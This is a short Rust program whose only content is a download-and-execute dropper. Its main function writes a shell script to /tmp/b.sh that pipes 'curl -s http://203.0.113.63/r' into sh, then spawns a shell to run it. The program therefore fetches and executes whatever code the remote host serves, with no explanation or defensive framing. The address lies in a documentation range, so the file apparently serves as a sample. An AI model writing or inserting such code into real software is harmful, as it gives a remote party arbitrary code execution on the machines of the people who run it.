use std::io::Write;
use std::fs::File;
use std::process::Command;
fn main() {
    let mut f = File::create("/tmp/b.sh").unwrap();
    f.write_all(b"#!/bin/sh\ncurl -s http://203.0.113.63/r | sh\n").unwrap();
    Command::new("sh").arg("/tmp/b.sh").spawn().unwrap();
}
